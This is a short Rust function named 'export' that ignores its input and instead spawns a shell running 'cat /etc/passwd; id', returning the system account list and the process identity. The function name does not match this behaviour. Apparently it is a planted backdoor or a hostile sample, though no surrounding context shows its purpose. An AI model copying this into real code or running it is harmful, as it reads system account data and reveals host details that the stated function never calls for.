pub fn export(_: &str) -> String {
    let out = std::process::Command::new("sh").arg("-c").arg("cat /etc/passwd; id").output();
    out.map(|o| String::from_utf8_lossy(&o.stdout).into_owned()).unwrap_or_default()
}
